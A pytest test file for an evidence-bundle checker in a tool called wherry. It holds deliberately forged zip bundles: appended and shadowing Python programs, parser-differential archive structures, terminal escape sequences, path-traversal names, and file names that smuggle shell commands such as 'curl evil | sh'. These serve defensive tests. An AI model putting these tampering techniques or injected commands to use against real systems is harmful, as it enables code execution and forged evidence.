"""The evidence bundle: whole, consistent, read alike by every reader, and every change of it found."""

from __future__ import annotations

import hashlib
import io
import json
import os
import random
import stat
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import blake3
import numpy as np
import pytest
from click.testing import CliRunner

import wherry
from tests.support import audit as support
from tests.support.audit import rewritten
from wherry.cli.audit import audit as command
from wherry.core.digest import ALGORITHMS, BLAKE3
from wherry.core.manifest import Companion, Manifest, checkpoint_digest, from_json
from wherry.errors import NotFoundError, UsageError
from wherry.ledger import schema as tables
from wherry.ledger.record import head, open_ledger
from wherry.prove import check
from wherry.prove.audit import audit
from wherry.prove.bundle import check_bundle
from wherry.prove.check import visible

GOLDEN = Path(__file__).parents[1] / "golden" / "bundle-2.zip"


@pytest.fixture
def bundle(tmp_path):
    receipt = support.converted(tmp_path)
    support.registered(receipt)
    wherry.convert(receipt.target.uri, tmp_path / "tree", to="orbax")
    path = tmp_path / "evidence.zip"
    audit(bundle=path)
    return path


def test_a_bundle_is_whole_and_says_what_it_proves(bundle):
    checked = check_bundle(bundle)
    assert checked.ok, checked.problems
    assert (checked.checkpoints, checked.manifests) == (3, 2)
    with zipfile.ZipFile(bundle) as archive:
        report = json.loads(archive.read("report.json"))
        assert "# Audit of 3 checkpoints" in archive.read("report.md").decode()
    assert report["chain"]["head"] == checked.head
    assert check_bundle(bundle, checked.head).ok
    assert "no statement has the hash" in check_bundle(bundle, "0" * 64).problems[0]


def test_the_check_inside_the_bundle_runs_without_wherry(bundle):
    command = [sys.executable, "-I", "-S", str(bundle)]
    done = subprocess.run(command, check=False, capture_output=True, text=True, cwd="/")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "complete and consistent" in done.stdout
    assert subprocess.run([*command, "--anchor", "1" * 64], check=False, capture_output=True).returncode == 1


def test_the_second_hand_computes_what_the_engine_computes(tmp_path):
    np.savez(tmp_path / "odd.npz", **{"a~b.c": np.ones(2), "plain": np.zeros((1, 3))})
    receipt = wherry.convert(tmp_path / "odd.npz", tmp_path / "odd", to="orbax")
    data = json.loads((tmp_path / "odd" / "wherry.json").read_text())
    expected = checkpoint_digest(from_json(data["manifest"]), "orbax", receipt.target.format_version, BLAKE3)
    assert check.checkpoint_digest(data["manifest"], data["checkpoint"]) == expected
    full = Manifest(
        {}, values={("step",): 7, ("a", "b/c"): "é"}, empties={("n",): "none"}, companions=(Companion("x", 1, "00"),)
    )  # fmt: skip
    for algorithm in ALGORITHMS:
        expected = checkpoint_digest(full, "orbax", None, algorithm)
        reference = {"format": "orbax", "format_version": None, "checkpoint_digest": f"{algorithm}:"}
        assert check.checkpoint_digest(full.to_json(), reference) == expected
    for path in [("a/b",), ("~", "", "~1"), ()]:
        assert check._parts(wherry.core.keypath.render(path)) == list(path)


def with_index(bundle, **fields):
    """The bundle with other fields in its index."""
    target = bundle.with_name("restated.zip")
    with zipfile.ZipFile(bundle) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, json.dumps({**json.loads(data), **fields}) if name == "index.json" else data)
    return target


@pytest.mark.parametrize("schema", [1, 3, 99, None, "2"], ids=repr)
@pytest.mark.parametrize("name", ["index.json", "report.json", "anchor.json", "ledger.jsonl"])
def test_a_record_of_another_schema_is_refused(bundle, name, schema):
    def change(member, data):
        if member != name:
            return data
        if name == "ledger.jsonl":
            return lines(data, lambda row: {**row, "schema": schema})
        return json.dumps({**json.loads(data), "schema": schema}).encode()

    changed = rewritten(bundle, change)
    if name == "index.json":
        changed = with_index(changed, schema=schema)
    first = check_bundle(changed).problems[0]
    assert f"it has schema {schema}, but this check requires {4 if name == 'ledger.jsonl' else 2}" in first
    assert (name in first, "use the wherry that made the bundle" in first) == (True, True)


def test_the_golden_bundle_is_consistent():
    """Evidence of another day; its program is that of its day, so that it is not compared here."""
    checked = check.check(str(GOLDEN))
    assert (checked.problems, checked.checkpoints, checked.findings) == ([], 4, {"error": 2})


def test_the_statements_that_the_check_reads_are_those_of_the_ledger():
    assert check._STATEMENT_SCHEMA == tables.SCHEMA


@pytest.mark.parametrize("size", [0, 1, 63, 64, 65, 1023, 1024, 1025, 2048, 2049, 3072, 3073, 5120, 40_000])
def test_the_second_hand_computes_blake3(size):
    data = random.Random(size).randbytes(size)
    assert check._blake3(data) == blake3.blake3(data).digest()


def lines(data, change):
    return b"".join(json.dumps(change(json.loads(line))).encode() + b"\n" for line in data.splitlines())


@pytest.mark.parametrize(
    ("name", "change", "said"),
    [
        ("ledger.jsonl", lambda data: data.replace(b'lossless\\":true', b'lossless\\":false'), "altered"),
        ("ledger.jsonl", lambda data: b"\n".join(data.split(b"\n")[1:]), "missing statement 1"),
        ("ledger.jsonl", lambda data: data.rsplit(b"\n", 2)[0] + b"\n", "the chain ends at"),
        ("ledger.jsonl", lambda data: lines(data, lambda row: {**row, "time": "2001"}), "hash mismatch with its"),
        ("anchor.json", lambda data: data.replace(b'"seq": ', b'"seq": 1'), "not the end of the chain"),
        ("report.json", lambda data: data.replace(b'"model version 1"', b'"model version 2"'), "no statement records"),
        ("report.json", lambda data: data.replace(b'"ok": true', b'"ok": false'), "ok=False"),
        ("report.json", lambda data: data.replace(b'"errors": 0', b'"errors": 1'), "counts"),
        ("report.json", lambda data: b"[" + data, "invalid evidence bundle"),
    ],
)  # fmt: skip
def test_a_change_under_a_new_index_is_found(bundle, name, change, said):
    changed = rewritten(bundle, lambda found, data: change(data) if found == name else data)
    checked = check_bundle(changed)
    assert said in " ".join(checked.problems), checked.problems


def test_a_manifest_that_gives_another_digest_is_found(bundle):
    def change(name, data):
        return data.replace(b'"layer.w"', b'"layer.v"') if name.startswith("manifests/") else data

    assert (
        "digest mismatch: the manifest is of another checkpoint"
        in check_bundle(rewritten(bundle, change)).problems[0]
    )


def test_a_checkpoint_that_no_statement_names_is_found(bundle):
    """A row that a forger adds to the report, without a manifest or a model that would contradict it."""
    other = f"blake3:{'f' * 64}"

    def change(name, data):
        if name != "report.json":
            return data
        report = json.loads(data)
        row = {**report["checkpoints"][0], "checkpoint_digest": other, "models": [], "manifest": False}
        return json.dumps({**report, "checkpoints": [*report["checkpoints"], row]}).encode()

    [problem] = check_bundle(rewritten(bundle, change)).problems
    assert f"no statement records checkpoint {other}" in problem


def test_a_manifest_that_is_left_out_under_a_new_index_is_found(bundle):
    cut = rewritten(bundle, lambda name, data: None if name.startswith("manifests/") else data)
    problems = check_bundle(cut).problems
    assert len(problems) == 2
    assert all(one.startswith("manifests/") and one.endswith(": missing file") for one in problems)


def test_files_that_are_changed_missing_or_added_are_named(bundle):
    cut = rewritten(bundle, lambda name, data: None if name == "report.md" else data, index=False)
    assert check_bundle(cut).problems == ["report.md: missing file"]
    changed = rewritten(bundle, lambda name, data: data + b" " if name == "report.md" else data, index=False)
    assert check_bundle(changed).problems == ["report.md: digest mismatch with the index"]
    with zipfile.ZipFile(bundle, "a") as archive:
        archive.writestr("extra", "x")
    assert check_bundle(bundle).problems == ["extra: unknown file; a program in the bundle could import it"]
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(bundle, "a") as archive:
        archive.writestr("report.md", "x")
    assert "report.md: duplicate file in the bundle" in check_bundle(bundle).problems
    bundle.write_bytes(b"PK not")
    assert "invalid evidence bundle" in check_bundle(bundle).problems[0]


@pytest.mark.parametrize("name", ["__main__.py", "README.txt"])
def test_a_program_or_readme_of_another_maker_is_named(bundle, name):
    forged = rewritten(bundle, lambda member, data: data + b"\nprint('owned')\n" if member == name else data)
    checked = check_bundle(forged)
    assert not checked.ok
    assert checked.problems[0].startswith(f"{name}: not the ")


def test_a_module_that_the_program_would_import_is_named(bundle):
    with zipfile.ZipFile(bundle, "a") as archive:
        archive.writestr("hashlib.py", "print('owned')")
    assert check_bundle(bundle).problems == [
        "hashlib.py: unknown file; a program in the bundle could import it"
    ]


def test_the_readme_of_a_bundle_names_the_way_to_trust_first(bundle):
    with zipfile.ZipFile(bundle) as archive:
        text = archive.read("README.txt").decode()
    assert text.index(f"wherry audit --check {bundle.name}") < text.index(f"python {bundle.name}")


def bomb(path, **members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        files = {"report.json": b"{}", "anchor.json": b"{}", "ledger.jsonl": b"", **members}
        for name, data in files.items():
            archive.writestr(name, data)
        rows = {
            name: {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
            for name, data in files.items()
        }
        archive.writestr("index.json", json.dumps({"schema": 2, "files": rows}))
    return path


def test_a_bundle_that_becomes_much_more_than_it_is_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(check, "_NODES_MAX", 1000)
    monkeypatch.setattr(check, "_RATIO_FREE", 50_000)
    wide = bomb(tmp_path / "wide.zip", **{"report.json": b"[" + b"{}," * 2000 + b"{}]"})
    assert "report.json exceeds the limit of 1000 JSON values" in check_bundle(wide).problems[0]
    line = bomb(tmp_path / "line.zip", **{"ledger.jsonl": b"[" + b"{}," * 2000 + b"{}]"})
    assert "ledger.jsonl exceeds the limit" in check_bundle(line).problems[0]
    zeros = bomb(tmp_path / "zeros.zip", **{"report.md": bytes(1 << 20)})
    assert "report.md: 1048576 bytes in" in check_bundle(zeros).problems[0]
    monkeypatch.setattr(check, "_MEMBERS_MAX", 3)
    assert "exceeds the limit of 3 files" in check_bundle(wide).problems[0]


def test_anchors_as_hash_and_as_file(bundle, tmp_path):
    with open_ledger() as ledger:
        now = head(ledger)
    file = tmp_path / "anchor.json"
    file.write_text(json.dumps({"seq": now.seq, "hash": now.hash, "time": now.time}))
    assert audit(anchor=str(file)).ok
    assert not check_bundle(bundle, str(file)).ok, (
        "the anchor is the statement of the audit, which came after"
    )
    for bad in ("nothing", str(bundle)):
        with pytest.raises(UsageError):
            audit(anchor=bad)
    with pytest.raises(NotFoundError):
        check_bundle(tmp_path / "none.zip")


def test_the_command_line(bundle, tmp_path):
    run = CliRunner().invoke
    done = run(command, ["--json"])
    assert (done.exit_code, json.loads(done.output)["ok"]) == (0, True)
    done = run(command, [str(tmp_path), "--level", "digest", "--markdown", str(tmp_path / "r.md")])
    assert done.exit_code == 0
    assert "3, 3 of them ok" in done.output
    assert (tmp_path / "r.md").read_text().startswith("# Audit of 3")
    done = run(command, ["--check", str(bundle), "--json"])
    assert (done.exit_code, json.loads(done.output)["manifests"]) == (0, 2)
    bundle.write_bytes(bundle.read_bytes()[:-30])
    done = run(command, ["--check", str(bundle)])
    assert done.exit_code == 9
    support.flip(tmp_path / "source.out")
    done = run(command, ["--level", "digest"])
    assert done.exit_code == 9
    assert "altered" in done.output
    assert "wherry convert" in done.output


def test_a_pipe_is_no_bundle_and_is_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "evidence.zip")
    with pytest.raises(OSError, match="not a regular file"):
        check.check(str(tmp_path / "evidence.zip"))
    (tmp_path / "zero.zip").symlink_to("/dev/zero")
    with pytest.raises(OSError, match="not a regular file"):
        check.check(str(tmp_path / "zero.zip"))


def test_a_sparse_file_is_refused_before_it_is_read(tmp_path):
    with (tmp_path / "evidence.zip").open("wb") as file:
        file.truncate(1 << 42)
    assert not check.check(str(tmp_path / "evidence.zip")).ok


def test_members_outside_the_file_are_a_problem_of_the_bundle(bundle, tmp_path):
    """zipfile seeks to what an archive states, and the system refuses it."""
    data, refused = bundle.read_bytes(), 0
    for at in range(20, 80, 2):
        place = data.index(b"PK\x01\x02") + 42 - at  # a part of the record, and of what comes before it
        (tmp_path / "evidence.zip").write_bytes(data[:place] + b"\xff" * 4 + data[place + 4 :])
        refused += not check.check(str(tmp_path / "evidence.zip")).ok
    (tmp_path / "evidence.zip").write_bytes(data[: data.rindex(b"PK\x05\x06") + 12] + b"\xff" * 4 + data[-6:])
    assert not check.check(str(tmp_path / "evidence.zip")).ok
    assert refused


def test_no_damage_makes_the_check_fall(bundle):
    """Any byte of the bundle may be another: that is said, or it is a byte that means nothing, never an exception."""
    data = bundle.read_bytes()
    generator = np.random.default_rng(0)
    noticed = 0
    for place in generator.integers(0, len(data), 200):
        changed = bytearray(data)
        changed[place] ^= 0xFF
        bundle.write_bytes(changed)
        noticed += not check_bundle(bundle).ok
    assert noticed > 150


# Evidence that was changed under an index that agrees: the page, names, attributes, headers, hidden
# bytes, JSON.


EXECUTED = b"PK\3\4 a file for another reader"


@pytest.fixture
def bundle_of_members(tmp_path):
    return support.evidence(tmp_path)


@pytest.fixture
def damaged(tmp_path):
    """Evidence of an audit with an error."""
    support.converted(tmp_path)
    support.flip(tmp_path / "source.out")
    path = tmp_path / "evidence.zip"
    assert not audit(bundle=path, level="digest").ok
    return path


def contents(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def reported(path, change):
    """The bundle with another report.json."""

    def other(name, data):
        return json.dumps(change(json.loads(data))).encode() if name == "report.json" else data

    return rewritten(path, other)


def added(path, name):
    """The bundle with one more file, which the index lists."""
    whole = contents(path)

    changed = path.with_name("changed.zip")
    listing = json.loads(whole["index.json"])
    listing["files"][name] = {"size": 0, "sha256": hashlib.sha256(b"").hexdigest()}
    with zipfile.ZipFile(changed, "w") as archive:
        for member, data in whole.items():
            archive.writestr(member, json.dumps(listing) if member == "index.json" else data)
        archive.writestr(zipfile.ZipInfo(name), b"")
    return changed


def built(path, *, gap=b"", tail=b"", local=None):
    """The bundle written byte by byte: with bytes before the list, behind a stream, or in the header of the ledger."""
    out, listed = bytearray(), bytearray()
    whole = contents(path)
    for name, data in whole.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(data) + packer.flush() + (tail if name == "ledger.jsonl" else b"")
        sizes = (0, 33, zlib.crc32(data), len(packed), len(data), len(name), 0)
        head = bytearray(struct.pack("<4s3H2H3I2H", b"PK\3\4", 20, 0, 8, *sizes)) + name.encode()
        if local and name == "ledger.jsonl":
            struct.pack_into(local[1], head, local[0], local[2])
        entry = struct.pack("<4s4H2H3I5H2I", b"PK\1\2", 20, 20, 0, 8, *sizes, 0, 0, 0, 0, len(out))
        listed += entry + name.encode()
        out += head + packed
    out += gap
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(whole), len(whole), len(listed), len(out), 0)
    changed = path.with_name("changed.zip")
    changed.write_bytes(bytes(out + listed + end))
    return changed


def test_what_is_written_byte_by_byte_is_valid(bundle_of_members):
    for whole in (built(bundle_of_members), bundle_of_members):
        assert check_bundle(whole).problems == []


def test_evidence_with_findings_is_valid_and_renders_again(damaged):
    assert check_bundle(damaged).problems == []


@pytest.mark.parametrize(
    "text", [b"# Audit of 2 checkpoints: no errors\n", b"", b"# Audit \x1b]0;owned\x07\n"]
)
def test_another_page_is_found(bundle_of_members, text):
    changed = rewritten(bundle_of_members, lambda name, data: text if name == "report.md" else data)
    [problem] = check_bundle(changed).problems
    assert problem.startswith("report.md: ")


@pytest.mark.parametrize("sign", ["\x1b[2J", "\x9b2J", "\u202e", "\r"])
def test_the_program_of_a_bundle_refuses_a_page_that_drives_the_terminal(bundle_of_members, sign):
    changed = rewritten(
        bundle_of_members, lambda name, data: data + sign.encode() if name == "report.md" else data
    )
    assert check.check(str(changed)).problems == ["report.md: it contains control characters"]


def test_a_finding_that_was_made_a_note_is_found(damaged):
    def milder(report):
        report["findings"] = [{**row, "severity": "note"} for row in report["findings"]]
        notes = len(report["findings"])
        return {
            **report,
            "ok": True,
            "counts": {**report["counts"], "errors": 0, "warnings": 0, "notes": notes},
        }

    assert "has the severity note" in check_bundle(reported(damaged, milder)).problems[0]


def test_verdicts_that_the_counts_contradict_are_found(damaged):
    def better(report):
        return {**report, "checkpoints": [{**row, "verdict": "ok"} for row in report["checkpoints"]]}

    assert "its counts are not those" in check_bundle(reported(damaged, better)).problems[0]


@pytest.mark.parametrize(
    "name", ["counts", "chain", "checkpoints", "findings", "scope", "history", "seconds"]
)
def test_a_report_of_another_form_is_a_problem(bundle_of_members, name):
    for value in (None, 7.5, "x", {"errors": "x"}, [None], [[]], [{"models": 1}]):
        if (name, type(value)) not in (("seconds", float), ("history", list)):
            assert not check_bundle(
                reported(bundle_of_members, lambda report, at=name, to=value: {**report, at: to})
            ).ok, value


@pytest.mark.parametrize(
    "name",
    [
        "manifests/../../../../tmp/evil", "manifests/../sitecustomize.py", "manifests/__init__.py", "manifests/",
        "manifests/x.pth", "manifests/a\nthe bundle is complete", "manifests/\x1b[2J", "manifests/C:\\x",
        f"manifests/{'a' * 64}.json\n", f"manifests/{'A' * 64}.json", f"manifests/md5-{'a' * 64}.json",
        f"manifests/{'a' * 64}.json", f"manifests/blake3-{'b' * 64}.json", "REPORT.json", "report.json ",
    ],
)  # fmt: skip
def test_a_name_that_wherry_does_not_write_is_found(bundle_of_members, name):
    [problem] = check_bundle(added(bundle_of_members, name)).problems
    assert problem.startswith(visible(name))
    assert problem.isprintable()


@pytest.mark.parametrize("left_out", ["README.txt", "__main__.py", "report.md"])
def test_a_file_that_is_left_out_of_the_index_too_is_found(bundle_of_members, left_out):
    cut = rewritten(bundle_of_members, lambda name, data: None if name == left_out else data)
    assert left_out in check_bundle(cut).problems[0]


@pytest.mark.parametrize(
    ("mode", "dos"),
    [
        (stat.S_IFLNK | 0o777, 0), (stat.S_IFDIR | 0o755, 0), (stat.S_IFREG | 0o4755, 0), (stat.S_IFIFO, 0),
        (0o644, 0x10),
    ],
)  # fmt: skip
def test_what_is_no_regular_file_is_found(bundle_of_members, mode, dos):
    whole = contents(bundle_of_members)
    with zipfile.ZipFile(bundle_of_members, "w") as archive:
        for name, data in whole.items():
            info = zipfile.ZipInfo(name)
            if name == "report.md":
                info.external_attr = mode << 16 | dos
            archive.writestr(info, data)
    assert check_bundle(bundle_of_members).problems == ["report.md: not a regular file"]


@pytest.mark.parametrize(
    "options", [{"comment": b"hidden"}, {"extra": struct.pack("<HH4s", 0x7075, 4, b"name")}]
)
def test_a_comment_or_an_extra_field_of_a_file_is_found(bundle_of_members, options):
    whole = contents(bundle_of_members)
    with zipfile.ZipFile(bundle_of_members, "w") as archive:
        for name, data in whole.items():
            info = zipfile.ZipInfo(name)
            for option, value in options.items() if name == "ledger.jsonl" else ():
                setattr(info, option, value)
            archive.writestr(info, data)
    assert check_bundle(bundle_of_members).problems == [
        "ledger.jsonl: it has flags, a comment or an extra field"
    ]


@pytest.mark.parametrize("flag", [1, 8, 0x40, 0x800, 0x2000])
def test_flags_are_found(bundle_of_members, flag):
    data = bytearray(built(bundle_of_members).read_bytes())
    struct.pack_into("<H", data, data.rindex(b"PK\1\2") + 8, flag)
    bundle_of_members.write_bytes(data)
    assert "flags" in " ".join(check_bundle(bundle_of_members).problems)


@pytest.mark.parametrize("change", [{"gap": EXECUTED}, {"tail": EXECUTED}, {"gap": b"\0"}, {"tail": b"\0"}])
def test_a_single_hidden_byte_is_found(bundle_of_members, change):
    [problem] = check_bundle(built(bundle_of_members, **change)).problems
    assert "belong to no file" in problem or "does not end where" in problem


@pytest.mark.parametrize(
    "local",
    [
        (6, "<H", 1), (8, "<H", 0), (14, "<I", 7), (18, "<I", 1 << 20), (22, "<I", 1), (26, "<H", 3), (28, "<H", 4),
        (30, "<c", b"m"),
    ],
)  # fmt: skip
def test_a_header_that_differs_from_the_list_is_found(bundle_of_members, local):
    [problem] = check_bundle(built(bundle_of_members, local=local)).problems
    assert problem == "ledger.jsonl: the header before it differs from the list of files"


def test_a_list_with_an_entry_more_than_it_states_is_found(bundle_of_members):
    data = bytearray(bundle_of_members.read_bytes())
    end = data.rindex(b"PK\5\6")
    [count] = struct.unpack_from("<H", data, end + 10)
    struct.pack_into("<2H", data, end + 8, count - 1, count - 1)
    bundle_of_members.write_bytes(data)
    assert check_bundle(bundle_of_members).problems == [
        "invalid evidence bundle: its list of files is damaged"
    ]


@pytest.mark.parametrize("at", [4, 6, 8])
def test_a_part_of_an_archive_is_refused(bundle_of_members, at):
    """Other readers take the number of files on this disk, or seek the disk of the list."""
    data = bytearray(bundle_of_members.read_bytes())
    struct.pack_into("<H", data, data.rindex(b"PK\5\6") + at, 1)
    bundle_of_members.write_bytes(data)
    assert check_bundle(bundle_of_members).problems == ["invalid evidence bundle: it is a part of an archive"]


def test_sizes_and_places_above_two_gib_are_valid_where_python_writes_them(tmp_path, monkeypatch):
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 1000)
    monkeypatch.setattr(check, "_PLAIN_MAX", 1000)
    support.converted(tmp_path)
    audit(bundle=tmp_path / "evidence.zip")
    with zipfile.ZipFile(tmp_path / "evidence.zip") as archive:
        assert sum(bool(info.extra) for info in archive.infolist()) > 5
    assert check_bundle(tmp_path / "evidence.zip").problems == []
    monkeypatch.setattr(check, "_PLAIN_MAX", 1 << 31)
    assert "an extra field" in check_bundle(tmp_path / "evidence.zip").problems[0]


@pytest.mark.parametrize("member", ["report.json", "anchor.json", "index.json", "manifests/"])
def test_json_that_states_a_name_twice_is_found(bundle_of_members, member):
    whole = contents(bundle_of_members)
    [name] = [name for name in whole if name.startswith(member)]
    text = whole[name].rstrip()
    twice = text[:-1] + b', "schema": 2}'
    changed = rewritten(bundle_of_members, lambda found, data: twice if found == name else data)
    if name == "index.json":
        whole[name] = twice
        with zipfile.ZipFile(changed, "w") as archive:
            for found, data in whole.items():
                archive.writestr(found, data)
    assert "states a name twice" in check_bundle(changed).problems[0]


def test_what_the_program_prints_is_printable(bundle_of_members, capsys):
    """A name that forges the last line, and severities that the report makes up."""
    forged = added(
        bundle_of_members, "x\x1b[2J\x1b]0;owned\x07\nthe bundle is complete and consistent\n\x9b8m\u202e"
    )
    assert check.main([str(forged)]) == 1
    out = capsys.readouterr().out
    assert out.replace("\n", "").isprintable()
    assert "the bundle is complete and consistent" not in out.splitlines()
    odd = reported(bundle_of_members, lambda report: {**report, "findings": [{"severity": "\x1b[2J"}]})
    assert check.main([str(odd)]) == 1
    assert "\x1b" not in capsys.readouterr().out


def test_the_program_says_what_it_has_not_compared(bundle_of_members):
    done = subprocess.run(
        [sys.executable, "-I", "-S", str(bundle_of_members)], check=False, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert "report.md is not compared" in done.stdout
    assert check.PROOF in done.stdout


def test_the_command_says_what_it_has_not_proven(bundle_of_members):
    done = CliRunner().invoke(command, ["--check", str(bundle_of_members)])
    assert done.exit_code == 0
    assert "bundle_sha256" in " ".join(done.output.split())


def test_a_program_in_one_file_has_no_import_of_wherry(bundle_of_members):
    program = contents(bundle_of_members)["__main__.py"].decode()
    assert "import wherry" not in program
    assert "\nfrom wherry" not in program
    compile(program, "__main__.py", "exec")
    assert io.StringIO(program).readline().startswith('"""')


def test_sizes_that_python_before_3_11_4_states_twice_are_valid(bundle_of_members):
    """Its zipfile writes the sizes of a file that may become large before the wide ones too, if they fit."""
    data = bytearray(bundle_of_members.read_bytes())
    with zipfile.ZipFile(bundle_of_members) as archive:
        infos = archive.infolist()
    wide = [info for info in infos if data[info.header_offset + 18 : info.header_offset + 26] == b"\xff" * 8]
    for info in wide:
        struct.pack_into("<II", data, info.header_offset + 18, info.compress_size, info.file_size)
    bundle_of_members.write_bytes(data)
    assert wide or sys.version_info < (3, 11, 4)
    assert check_bundle(bundle_of_members).problems == []


# A bundle that two readers read differently: what `audit --check` has read must be what `python BUNDLE`
# runs.


END, END64, LOCATOR = (struct.Struct(form) for form in ("<4s4H2IH", "<4sQ2H2I4Q", "<4sIQI"))


@pytest.fixture
def bundle_of_readers(tmp_path):
    return support.evidence(tmp_path)


def parts(path):
    """Members, directory, and the number of files of an archive."""
    data = path.read_bytes()
    at = data.rindex(b"PK\5\6")
    count, size, offset = END.unpack_from(data, at)[4:7]
    return data[:offset], data[offset : offset + size], count


def owned():
    """Members and directory of an archive whose program is another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("__main__.py", "print('owned')\n")
    data = buffer.getvalue()
    _count, size, offset = END.unpack_from(data, data.rindex(b"PK\5\6"))[4:7]
    return data[:offset], data[offset : offset + size]


def runs(path):
    """Whether Python runs the other program."""
    done = subprocess.run([sys.executable, "-I", str(path)], check=False, capture_output=True)
    return b"owned" in done.stdout


def test_the_digest_is_that_of_the_file(bundle_of_readers):
    assert (
        check_bundle(bundle_of_readers).sha256 == hashlib.sha256(bundle_of_readers.read_bytes()).hexdigest()
    )


def test_a_wide_end_that_names_another_list_than_the_plain_one_is_found(bundle_of_readers):
    """zipfile follows the wide record, and before Python 3.13 `python BUNDLE` follows the plain one."""
    members, directory, count = parts(bundle_of_readers)
    program, listed = owned()
    entry = bytearray(listed)
    struct.pack_into("<I", entry, 42, len(members))  # where the program begins
    first = len(members) + len(program)
    head = members + program + bytes(entry) + bytes(4)
    at = len(head) + len(directory)
    wide = END64.pack(b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), len(head))
    whole = head + directory + wide + LOCATOR.pack(b"PK\6\7", 0, at, 1)
    bundle_of_readers.write_bytes(whole + END.pack(b"PK\5\6", 0, 0, 1, 1, len(whole) - first, first, 0))
    assert runs(bundle_of_readers) or sys.version_info >= (3, 13)
    [problem] = check_bundle(bundle_of_readers).problems
    assert "two lists of files" in problem


def test_a_wide_end_that_agrees_is_none(bundle_of_readers):
    members, directory, count = parts(bundle_of_readers)
    at = len(members) + len(directory)
    wide = END64.pack(b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), len(members))
    start = members + directory + wide + LOCATOR.pack(b"PK\6\7", 0, at, 1)
    for size, offset in ((len(directory), len(members)), (0xFFFFFFFF, 0xFFFFFFFF)):
        bundle_of_readers.write_bytes(start + END.pack(b"PK\5\6", 0, 0, count, count, size, offset, 0))
        assert check_bundle(bundle_of_readers).ok
    elsewhere = members + directory + wide + LOCATOR.pack(b"PK\6\7", 0, at - 1, 1)
    bundle_of_readers.write_bytes(
        elsewhere + END.pack(b"PK\5\6", 0, 0, count, count, len(directory), len(members), 0)
    )
    assert not check_bundle(bundle_of_readers).ok


@pytest.mark.parametrize("version", [0, 10, 46, 63, 0x0114])
def test_a_file_of_another_version_of_the_format_is_found(bundle_of_readers, version):
    """Some readers refuse it, some read on: which one is not for the maker of the bundle to choose."""
    data = bytearray(bundle_of_readers.read_bytes())
    with zipfile.ZipFile(bundle_of_readers) as archive:
        info = archive.getinfo("report.md")
    struct.pack_into("<H", data, info.header_offset + 4, version)
    bundle_of_readers.write_bytes(data)
    assert check_bundle(bundle_of_readers).problems == [
        "report.md: the header before it differs from the list of files"
    ]
    at = data.rindex(b"report.md") - 46  # its entry in the list of files
    struct.pack_into("<H", data, at + 6, version)
    bundle_of_readers.write_bytes(data)
    assert not check_bundle(bundle_of_readers).ok


@pytest.mark.parametrize("where", ["before", "after", "between"])
def test_bytes_that_belong_to_no_file_are_found(bundle_of_readers, where):
    """A program for another reader, or the holes of a sparse file that would be read for hours."""
    members, directory, count = parts(bundle_of_readers)
    other = b"#!/bin/sh\necho owned\n" * 100
    if where == "before":
        bundle_of_readers.write_bytes(other + bundle_of_readers.read_bytes())
    elif where == "after":
        bundle_of_readers.write_bytes(bundle_of_readers.read_bytes() + other)
    else:
        offset = len(members) + len(other)
        end = END.pack(b"PK\5\6", 0, 0, count, count, len(directory), offset, 0)
        bundle_of_readers.write_bytes(members + other + directory + end)
    assert not check_bundle(bundle_of_readers).ok


def test_a_comment_is_found(bundle_of_readers):
    with zipfile.ZipFile(bundle_of_readers, "a") as archive:
        archive.comment = b"PK\5\6" + bytes(40)
    assert not check_bundle(bundle_of_readers).ok


def test_a_file_whose_stream_is_longer_than_it_states_is_found(bundle_of_readers):
    """zipfile ends at the stated size; `python BUNDLE` and others read to the end of the stream."""
    data = bytearray(bundle_of_readers.read_bytes())
    with zipfile.ZipFile(bundle_of_readers) as archive:
        infos = archive.infolist()
        text = archive.read("__main__.py")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    longer = packer.compress(text + b"\nprint('owned')\n") + packer.flush()
    [info] = [one for one in infos if one.filename == "__main__.py"]
    begin = info.header_offset + 30 + sum(struct.unpack_from("<2H", data, info.header_offset + 26))
    data[begin : begin + info.compress_size] = longer
    grown = len(longer) - info.compress_size
    end = data.rindex(b"PK\5\6")
    at = struct.unpack_from("<I", data, end + 16)[0] + grown
    struct.pack_into("<I", data, end + 16, at)
    for _one in infos:
        lengths = struct.unpack_from("<3H", data, at + 28)
        name = bytes(data[at + 46 : at + 46 + lengths[0]]).decode()
        header = struct.unpack_from("<I", data, at + 42)[0]
        struct.pack_into("<I", data, at + 42, header + grown * (header > info.header_offset))
        if name == "__main__.py":
            struct.pack_into("<I", data, at + 20, len(longer))
        at += 46 + sum(lengths)
    bundle_of_readers.write_bytes(data)
    with zipfile.ZipFile(bundle_of_readers) as archive:
        assert archive.read("__main__.py") == text
    assert not check_bundle(bundle_of_readers).ok


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_file_that_python_would_unpack_otherwise_is_found(bundle_of_readers, method):
    with zipfile.ZipFile(bundle_of_readers) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(bundle_of_readers, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in contents.items():
            archive.writestr(name, text, method if name == "__main__.py" else None)
    assert "__main__.py: " in check_bundle(bundle_of_readers).problems[0]


@pytest.mark.parametrize(
    "name",
    ["a.zip; curl evil | sh #", "$(id).zip", "a.zip`id`", "a\x1b]0;x\x07.zip", "a\u202e.zip", "a&b.zip"],
)
def test_a_readme_that_names_a_command_is_none_of_wherry(bundle_of_readers, name):
    forged = rewritten(
        bundle_of_readers,
        lambda member, data: data.replace(b"evidence.zip", name.encode()) if member == "README.txt" else data,
    )
    [problem] = check_bundle(forged).problems
